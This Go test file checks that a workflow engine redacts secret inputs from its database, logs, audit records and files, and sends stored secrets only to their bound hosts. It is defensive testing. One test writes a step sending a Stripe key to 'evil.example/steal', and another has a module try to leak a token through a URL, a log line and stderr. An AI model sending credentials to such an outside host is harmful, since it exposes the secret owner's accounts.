package workflow_test

// Attacks on secrets in workflows: a secret input's value never reaches
// the station's records (the database, any file in STATION_HOME, what
// Runs, Show and the events give), while the modules that use it get it,
// a resumed run included; a stored secret passed by reference
// (secrets.NAME) reaches only the hosts it is bound to.

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/station-dev/station/internal/host"
	"github.com/station-dev/station/internal/probe"
	"github.com/station-dev/station/internal/station"
	"github.com/station-dev/station/internal/store"
	"github.com/station-dev/station/internal/workflow"
	"github.com/station-dev/station/sdk/abi"
)

// spellings are the forms a value may take in a file or an output: as it
// is, JSON-escaped (with and without HTML escaping) and Go-quoted.
func spellings(v string) []string {
	out := []string{v}
	j, _ := json.Marshal(v)
	out = append(out, string(j[1:len(j)-1]))
	j = []byte(strings.NewReplacer(`\u003c`, "<", `\u003e`, ">", `\u0026`, "&").Replace(string(j)))
	out = append(out, string(j[1:len(j)-1]))
	q := strconv.Quote(v)
	out = append(out, q[1:len(q)-1])
	q = strconv.QuoteToASCII(v)
	return append(out, q[1:len(q)-1])
}

// noValue fails the test if any spelling of any value is in any file
// under dir.
func noValue(t *testing.T, dir string, values ...string) {
	t.Helper()
	n := 0
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		n++
		for _, v := range values {
			for _, s := range spellings(v) {
				if strings.Contains(string(b), s) {
					t.Errorf("%s holds the secret value (as %q)", path, s)
				}
			}
		}
		return nil
	})
	if err != nil || n == 0 {
		t.Fatalf("walk %s: %v (%d files)", dir, err, n)
	}
}

// noValueIn fails the test if any spelling of any value is in text.
func noValueIn(t *testing.T, what, text string, values ...string) {
	t.Helper()
	for _, v := range values {
		for _, s := range spellings(v) {
			if strings.Contains(text, s) {
				t.Errorf("%s holds the secret value (as %q):\n%.2000s", what, s, text)
			}
		}
	}
}

// TestSecretInputsNeverRecorded: two secret inputs, one with every
// character JSON and Go escape, are given to module steps, inside longer
// strings; the modules echo them back and a module fails quoting one.
// Their steps got the real values, and nothing the station keeps or shows
// holds either: not the database, not any file in STATION_HOME, not Runs,
// Show, the events or the error. The run's recorded inputs read [secret];
// a resume is refused until the values are given again, and then the
// module gets the real value again.
func TestSecretInputsNeverRecorded(t *testing.T) {
	w := newServiceWorld(t, false)
	ctx := context.Background()
	const token = "tok_Live-8c1f0e2d9b"
	const password = "pa\"ss\\wörd<1>&\u2028x"
	wf := w.file(t, "secret.yaml", `name: secret
inputs:
  token: {secret: true, required: true}
  password: {secret: true}
  customer: {default: cus_42}
steps:
  - id: greet
    uses: station/hello greet
    with: {name: "Bearer ${{ inputs.token }} and ${{ inputs.password }}"}
  - id: invoice
    uses: dave/stripe-invoicing create-invoice
    needs: greet
    if: inputs.token != "" && upper(inputs.token) != "X"
    with: {customer: "${{ inputs.token }}"}
`)
	w.mu.Lock()
	w.failNext = true
	w.mu.Unlock()
	var evs []workflow.Event
	var mu sync.Mutex
	record := func(ev workflow.Event) { mu.Lock(); evs = append(evs, ev); mu.Unlock() }
	res, err := w.svc.Start(ctx, wf, map[string]any{"token": token, "password": password}, record)
	var ce *host.CallError
	if res == nil || res.Status != store.RunFailed || !errors.As(err, &ce) {
		t.Fatalf("run: %+v, %v; want a failed run with the module's error", res, err)
	}
	noValueIn(t, "the run's error", err.Error(), token, password)
	noValueIn(t, "the call error's message", ce.Msg, token, password)
	if !strings.Contains(err.Error(), "No such customer: '[secret]'") {
		t.Errorf("error %q: want the module's message, redacted", err)
	}
	// The module got the real value.
	if got := w.customerList(); len(got) != 1 || got[0] != token {
		t.Errorf("Stripe was asked for customers %q, want the secret input's value", got)
	}

	// Resume: refused until the secret inputs are given again, and nothing
	// else may be; the refused resume does not count.
	for _, c := range []struct {
		given map[string]any
		want  string
	}{
		{nil, "secret input token is not stored: give it again (station workflow resume 1 --input token=VALUE, or --inputs)"},
		{map[string]any{"token": token}, "secret input password is not stored"},
		{map[string]any{"token": token, "password": password, "customer": "cus_9"}, `only secret inputs, which are not stored, are given again ("customer" is not one)`},
		{map[string]any{"token": "abc", "password": password}, "input token is secret, and its value is 3 bytes"},
	} {
		_, err := w.svc.Resume(ctx, res.RunID, "", c.given, record)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("resume with %v: %v, want %q", c.given, err, c.want)
		}
	}
	run, err := w.st.Store.WorkflowRun(ctx, res.RunID)
	if err != nil || run.Resumes != 0 || run.Status != store.RunFailed {
		t.Errorf("after refused resumes: %v, resumes %d, status %s", err, run.Resumes, run.Status)
	}
	res, err = w.svc.Resume(ctx, res.RunID, "", map[string]any{"token": token, "password": password}, record)
	if err != nil || res.Status != store.RunSucceeded {
		t.Fatalf("resume with the secret inputs: %+v, %v", res, err)
	}
	if got := w.customerList(); len(got) != 2 || got[1] != token {
		t.Errorf("after the resume Stripe was asked for %q, want the secret input's value again", got)
	}
	noValueIn(t, "the output", string(res.Output), token, password)
	if !strings.Contains(string(res.Output), `"greeting":"Hello, Bearer [secret] and [secret]!"`) {
		t.Errorf("output %s: want the greeting with both values redacted", res.Output)
	}

	// Everything the station records and shows.
	run, err = w.st.Store.WorkflowRun(ctx, res.RunID)
	if err != nil {
		t.Fatal(err)
	}
	if string(run.Inputs) != `{"customer":"cus_42","password":"[secret]","token":"[secret]"}` {
		t.Errorf("recorded inputs %s", run.Inputs)
	}
	if in := string(run.Steps[0].Input); in != `{"name":"Bearer [secret] and [secret]"}` {
		t.Errorf("recorded input of greet: %s", in)
	}
	runs, err := w.svc.Runs(ctx, 10)
	if err != nil {
		t.Fatal(err)
	}
	shown, err := w.svc.Show(ctx, res.RunID)
	if err != nil {
		t.Fatal(err)
	}
	for what, v := range map[string]any{"the run": run, "runs": runs, "show": shown, "the events": evs} {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		noValueIn(t, what, string(b), token, password)
		noValueIn(t, what+" (text)", fmt.Sprintf("%+v", v), token, password)
	}
	if err := w.st.Audit.Flush(ctx); err != nil {
		t.Fatal(err)
	}
	noValue(t, w.st.Home, token, password)
}

// TestSecretReferenceOnlyToItsHosts: a step passes ${{ secrets.STRIPE_KEY }}
// to a module that declares it, bound to api.stripe.com: the module gets the
// placeholder, Stripe gets the stored value, and the same placeholder sent
// to evil.example (in the module's allowlist, not bound to the secret) is
// refused before any connection. The run's records hold the placeholder
// only; nothing in STATION_HOME holds the value (it is sealed in
// secrets.json).
func TestSecretReferenceOnlyToItsHosts(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	const id = "test/payer"
	const value = "sk_live_stored_51Hq2x"
	var mu sync.Mutex
	var seen []string
	w.stripeMux.HandleFunc("/charge", func(rw http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Header.Get("Authorization"))
		mu.Unlock()
		fmt.Fprintf(rw, "charged with %s", r.Header.Get("Authorization")) // echoed: the gate takes it out
	})
	w.install(id, `commands:
  - name: run
requires:
  network:
    allow: [api.stripe.com, evil.example]
  secrets:
    STRIPE_KEY: {hosts: [api.stripe.com]}
`, probe.Wasm(t))
	svc, err := workflow.NewService(ctx, w.st, func(string) string { return "" })
	if err != nil {
		t.Fatal(err)
	}
	wf, err := workflow.Parse("pay.yaml", []byte(fmt.Sprintf(`steps:
  - id: pay
    uses: %s run
    with:
      actions:
        - {op: http, method: GET, url: "https://api.stripe.com/charge", headers: {Authorization: ["Bearer ${{ secrets.STRIPE_KEY }}"]}}
        - {op: http, method: GET, url: "https://evil.example/steal", headers: {X-Key: ["${{ secrets.STRIPE_KEY }}"]}}
`, id)))
	if err != nil {
		t.Fatal(err)
	}
	// No value yet: refused before anything runs.
	if _, err := svc.Start(ctx, wf, nil, nil); !errors.Is(err, workflow.ErrCheck) || !strings.Contains(err.Error(), "pay.yaml:6:") ||
		!strings.Contains(err.Error(), "secret STRIPE_KEY of module test/payer has no value (set it with: station secret set STRIPE_KEY --module test/payer)") {
		t.Fatalf("run without a stored value: %v", err)
	}
	if err := w.st.SetSecret(ctx, id, "STRIPE_KEY", []byte(value)); err != nil {
		t.Fatal(err)
	}
	res, err := svc.Start(ctx, wf, nil, nil)
	if res == nil {
		t.Fatalf("run: %v", err)
	}
	mu.Lock()
	got := append([]string(nil), seen...)
	mu.Unlock()
	if len(got) != 1 || got[0] != "Bearer "+value {
		t.Errorf("Stripe saw Authorization %q, want the stored value", got)
	}
	if n := w.evil.Accepted(); n != 0 {
		t.Errorf("evil.example accepted %d connections", n)
	}
	run, err := w.st.Store.WorkflowRun(ctx, res.RunID)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(run.Steps[0].Input), abi.SecretPlaceholder("STRIPE_KEY")) {
		t.Errorf("recorded input %s: want the placeholder", run.Steps[0].Input)
	}
	b, _ := json.Marshal(run)
	noValueIn(t, "the run", string(b), value)
	recs := w.audit(store.AuditFilter{})
	denied := false
	for _, r := range recs {
		denied = denied || !r.Allowed && strings.HasPrefix(r.Target, "evil.example")
	}
	if !denied {
		t.Errorf("no denial of evil.example in the audit log: %+v", recs)
	}
	b, _ = json.Marshal(recs)
	noValueIn(t, "the audit log", string(b), value)
	noValue(t, w.st.Home, value)

	// A module that does not declare the secret cannot be passed it.
	other, err := workflow.Parse("other.yaml", []byte(`steps:
  - id: greet
    uses: test/payer run
    with: {actions: []}
  - id: leak
    uses: test/other run
    with: {actions: [{op: http, method: GET, url: "https://api.stripe.com/charge", headers: {Authorization: ["${{ secrets.STRIPE_KEY }}"]}}]}
`))
	if err != nil {
		t.Fatal(err)
	}
	w.install("test/other", "commands:\n  - name: run\nrequires:\n  network:\n    allow: [api.stripe.com]\n", probe.Wasm(t))
	if _, err := svc.Start(ctx, other, nil, nil); !errors.Is(err, workflow.ErrCheck) ||
		!strings.Contains(err.Error(), "other.yaml:7:110: step leak: module test/other does not declare secret STRIPE_KEY (it declares no secrets)") {
		t.Errorf("a step passing a secret its module does not declare: %v", err)
	}
	mu.Lock()
	if len(seen) != 1 {
		t.Errorf("Stripe got %d requests, want 1", len(seen))
	}
	mu.Unlock()
}

func (w *serviceWorld) customerList() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return append([]string(nil), w.customers...)
}

// TestSecretInputKeptOutOfAuditAndLog: a module holds the secret inputs it
// is given and may put one where the station records things — a URL the
// gate refuses (its target keeps the path), its log, its stderr. The
// call's redaction (sandbox.WithRedact) keeps the value out of the audit
// log and the station log all the same.
func TestSecretInputKeptOutOfAuditAndLog(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	var logBuf syncBuffer
	st, err := station.Open(ctx, w.st.Home, station.Options{Cache: sharedCache(),
		Logger: slog.New(slog.NewTextHandler(&logBuf, &slog.HandlerOptions{Level: slog.LevelDebug}))})
	if err != nil {
		t.Fatal(err)
	}
	w.st.Close(ctx)
	w.st = st
	w.install("test/leaky", "commands:\n  - name: run\nrequires:\n  network:\n    allow: [api.stripe.com]\n", probe.Wasm(t))
	const token = "tok_Leaky-5e6f7a8b9c"
	wf, err := workflow.Parse("leak.yaml", []byte(`inputs:
  token: {secret: true, required: true}
steps:
  - id: leak
    uses: test/leaky run
    with:
      actions:
        - {op: raw, import: http_request, data: '{"method":"GET","url":"https://api.stripe.com/bad\\path/${{ inputs.token }}"}', args: [-4294967296, -4294967297]}
        - {op: log, message: "my token is ${{ inputs.token }}"}
        - {op: print, stream: stderr, message: "stderr: ${{ inputs.token }}"}
`))
	if err != nil {
		t.Fatal(err)
	}
	svc, err := workflow.NewService(ctx, st, func(string) string { return "" })
	if err != nil {
		t.Fatal(err)
	}
	if res, err := svc.Start(ctx, wf, map[string]any{"token": token}, nil); res == nil {
		t.Fatalf("run: %v", err)
	}
	recs := w.audit(store.AuditFilter{})
	refused := false
	for _, r := range recs {
		refused = refused || !r.Allowed && strings.Contains(r.Target, "bad%5Cpath/[secret]")
	}
	if !refused {
		t.Fatalf("the malformed URL was not refused with its path: %+v", recs)
	}
	b, _ := json.Marshal(recs)
	noValueIn(t, "the audit log", string(b), token)
	if !strings.Contains(logBuf.String(), "my token is [secret]") || !strings.Contains(logBuf.String(), "stderr: [secret]") {
		t.Errorf("the module's log lines are not there, redacted:\n%s", logBuf.String())
	}
	noValueIn(t, "the station log", logBuf.String(), token)
	noValue(t, st.Home, token)
}

// syncBuffer is a bytes.Buffer safe for the logger's goroutines.
type syncBuffer struct {
	mu sync.Mutex
	b  strings.Builder
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}
